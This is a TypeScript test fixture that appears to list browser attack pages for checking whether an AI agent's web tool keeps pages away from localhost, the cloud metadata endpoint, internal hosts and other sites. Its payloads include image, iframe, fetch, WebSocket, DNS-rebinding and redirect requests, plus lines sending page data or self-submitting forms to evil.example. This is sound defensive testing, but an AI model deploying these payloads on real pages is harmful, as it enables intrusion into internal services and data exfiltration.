import { call, contacted, type FamilyAttack, family, type Harm, PAGE } from "../attack.ts";

/** A page of the web that the user has allowed, and what it does in the browser. */
function shown(name: string, page: string, harm: Harm, more: Partial<FamilyAttack> = {}): FamilyAttack {
  const text = page.startsWith("<") ? page : `<p>news</p><script>${page}</script>`;
  const calls = [call("open_page", { url: PAGE }), call("read_page", {})];
  return { name, page: `<!doctype html>${text}`, calls, harm: [harm], needs: "chromium", ...more };
}

/** The same for a page of a dev server that the user has allowed. */
function served(name: string, page: string, harm: Harm): FamilyAttack {
  const url = "http://127.0.0.1:8000/";
  const attack = shown(`dev server: ${name}`, page, harm, { flags: ["--set", "web.allowHosts=127.0.0.1:8000"] });
  return { ...attack, calls: [call("open_page", { url }), call("read_page", {})] };
}

/** A form that sends itself. */
const FORM = (address: string): string =>
  `<form method="post" action="${address}"></form><script>document.forms[0].submit()</script>`;

const SERVICE = "http://127.0.0.1:8080/";
const REACHED = contacted("tcp:8080");
const LEFT = contacted("tcp:80");
const INSIDE = "http://10.1.2.3/";
const LISTED = (host: string): Partial<FamilyAttack> => ({ flags: ["--set", `web.allowHosts=${host}`] });

const ATTACKS: readonly FamilyAttack[] = [
  shown("picture", `<img src="${SERVICE}">`, REACHED),
  shown("frame", `<iframe src="http://localhost:8080/"></iframe>`, REACHED),
  shown("frame of the metadata", `<iframe src="http://169.254.169.254/latest/meta-data/"></iframe>`, LEFT),
  shown("style", `<link rel="stylesheet" href="http://[::1]:8080/x.css">`, REACHED),
  shown("script", `<script src="http://lan.example/x.js"></script>`, contacted("10.1.2.3"), { hosts: ["lan.example"] }),
  shown("object", `<object data="${SERVICE}"></object>`, REACHED),
  shown("video", `<video autoplay src="${SERVICE}"></video>`, REACHED),
  shown("request", `fetch("${SERVICE}", {method: "POST", mode: "no-cors", body: "x"})`, REACHED),
  shown("beacon", `navigator.sendBeacon("${SERVICE}", "x")`, REACHED),
  shown("events", `new EventSource("${SERVICE}")`, REACHED),
  shown("socket", `new WebSocket("ws://127.0.0.1:8080/")`, REACHED),
  shown("worker", `new Worker(URL.createObjectURL(new Blob(["fetch('${SERVICE}', {mode: 'no-cors'})"])))`, REACHED),
  shown("a name that leads here", `<img src="http://rebind.example/">`, contacted("127.0.0.1"), {
    hosts: ["rebind.example"],
  }),
  shown("a redirect", `<img src="http://open.example/redirect?to=${SERVICE}">`, REACHED, { hosts: ["open.example"] }),
  shown("a page that goes on to this machine", `<meta http-equiv="refresh" content="0;url=${SERVICE}">`, REACHED),
  shown("a page that goes on to the network", `location = "${INSIDE}"`, LEFT),
  shown("a page that goes on to another site", `location = "http://evil.example/?" + document.title`, LEFT),
  shown("a form to another site", FORM("http://evil.example/"), LEFT),
  shown("a form to this machine", FORM(SERVICE), REACHED),
  shown("a dev server that is allowed", `<img src="${SERVICE}">`, REACHED, LISTED("127.0.0.1:8080")),
  shown(
    "a service of the network that is allowed",
    `fetch("${INSIDE}", {method: "POST", mode: "no-cors", body: "x"})`,
    LEFT,
    LISTED("10.1.2.3"),
  ),
  shown("a frame of a service that is allowed", `<iframe src="${INSIDE}"></iframe>`, LEFT, LISTED("10.1.2.3")),
];

/** A page of the user's dev server that shows what others wrote. */
const DEV_SERVER: readonly FamilyAttack[] = [
  served("picture", `<img src="${SERVICE}">`, REACHED),
  served("socket", `new WebSocket("ws://127.0.0.1:8080/")`, REACHED),
  served("a page that goes on to another service", `location = "${SERVICE}"`, REACHED),
  served("a request to the web", `fetch("http://evil.example/", {method: "POST", mode: "no-cors", body: "x"})`, LEFT),
  served("a frame of the web", `<iframe src="http://evil.example/"></iframe>`, LEFT),
  served("a form to the web", FORM("http://evil.example/"), LEFT),
];

/** Pages in the browser, of the web or a dev server, reach for the machine and its network, or for other sites than the one that was allowed. */
export const BROWSER = family("pages in the browser", ATTACKS, DEV_SERVER);
